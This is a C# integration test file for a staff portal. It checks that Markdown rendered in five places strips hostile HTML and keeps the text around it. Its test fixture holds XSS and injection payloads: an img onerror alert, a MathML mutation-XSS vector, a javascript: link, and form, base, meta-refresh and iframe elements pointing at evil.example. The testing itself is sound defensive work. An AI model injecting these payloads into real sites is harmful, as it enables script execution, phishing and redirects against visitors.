using System.Net;
using System.Text.Json;
using AngleSharp.Dom;
using Rsis.Portal.Application.Common.Security;
using Rsis.Portal.IntegrationTests.Infrastructure;

namespace Rsis.Portal.IntegrationTests.Common;

/// <summary>
/// Every place Markdown is shown, through the real host: a form, MathML that would turn the rest into style
/// text, and elements that change or leave the page are gone, and the text after them still shows.
/// </summary>
public sealed class MarkdownSafetyTests(StaffPortal portal) : IClassFixture<StaffPortal>
{
    private const string Hostile = """
        Before the bad markup.

        <form action="https://evil.example/"><input name=q><button>Go</button></form>

        <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>

        <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
        <object data="https://evil.example/x"></object><embed src="https://evil.example/x"><iframe src="https://evil.example/"></iframe>
        <svg><a href="javascript:alert(2)"><text>svg text</text></a></svg><select><option>pick</option></select><textarea>typed</textarea>

        After the bad markup.
        """;

    private const string Removed = "form, input, button, select, option, textarea, label, math, svg, base, meta, link, object, embed, style, iframe, script";

    public static TheoryData<string> Places => ["article body", "about the author", "author biography", "content page", "admin preview"];

    [Theory]
    [MemberData(nameof(Places))]
    public async Task Forms_and_foreign_markup_are_removed_and_the_text_after_them_still_shows(string place)
    {
        var (staff, _) = await portal.SignedInAsync(StaffRoles.Editor);

        var shown = await ShowAsync(staff, place, "Markdown Safety " + place);

        Assert.Empty(shown.QuerySelectorAll(Removed));
        Assert.Empty(shown.QuerySelectorAll("[onerror], [href^='javascript:']"));
        var text = shown.TextContent.Squash();
        Assert.Contains("Before the bad markup.", text, StringComparison.Ordinal);
        Assert.Contains("After the bad markup.", text, StringComparison.Ordinal);
        var page = shown.Owner!;
        Assert.Empty(page.QuerySelectorAll("base, meta[http-equiv], form[action^='https://evil'], iframe, object, embed"));
        // The page around it is whole: its footer is still the site's.
        Assert.NotNull(page.QuerySelector("footer"));
    }

    /// <summary>Puts <see cref="Hostile"/> where <paramref name="place"/> shows it, and answers the element that shows it.</summary>
    private async Task<IElement> ShowAsync(HttpClient staff, string place, string title)
    {
        var reader = portal.CreateReader();
        switch (place)
        {
            case "article body":
            case "about the author":
                var id = await staff.CreatePublicationAsync(title, status: "Published",
                    body: place == "article body" ? Hostile : "A plain body.",
                    change: f => f.Set("AboutTheAuthors", place == "about the author" ? Hostile : "A plain note."));
                var article = await reader.GetPageAsync(await staff.PublicAddressAsync(id));
                // What follows the Markdown on the article is still there, in its place.
                Assert.NotNull(article.QuerySelector("article #about-the-author + .article-about"));
                return article.QuerySelector(place == "article body" ? ".article-body" : ".article-about")!;
            case "author biography":
                await staff.CreateItemAsync("authors", f => f.Set("Name", title).Set("Slug", "markdown-safety").Set("Biography", Hostile));
                return (await reader.GetPageAsync("/authors/markdown-safety")).QuerySelector(".author-biography")!;
            case "content page":
                await staff.CreateItemAsync("pages", f => f.Set("Title", title).Set("Slug", "markdown-safety").Set("Body", Hostile));
                return (await reader.GetPageAsync("/markdown-safety")).QuerySelector(".page-body")!;
            default:
                var form = FormFields.Of(await staff.GetPageAsync("/admin/publications/new"), PublicationForms.FormSelector);
                using (var request = new HttpRequestMessage(HttpMethod.Post, new Uri("/admin/publications/preview", UriKind.Relative))
                {
                    Content = new FormUrlEncodedContent([new("markdown", Hostile)]),
                })
                {
                    request.Headers.Add("RequestVerificationToken", form[StaffSignIn.TokenField]);
                    using var response = await staff.SendAsync(request, TestContext.Current.CancellationToken);
                    Assert.Equal(HttpStatusCode.OK, response.StatusCode);
                    using var json = await JsonDocument.ParseAsync(await response.Content.ReadAsStreamAsync(TestContext.Current.CancellationToken),
                        cancellationToken: TestContext.Current.CancellationToken);
                    // Shown in the editor's page, as the admin script does.
                    var editor = await PageReading.ParseAsync(
                        $"<!DOCTYPE html><html><body><div class=preview>{json.RootElement.GetProperty("html").GetString()}</div><footer>admin</footer></body></html>");
                    return editor.QuerySelector(".preview")!;
                }
        }
    }
}
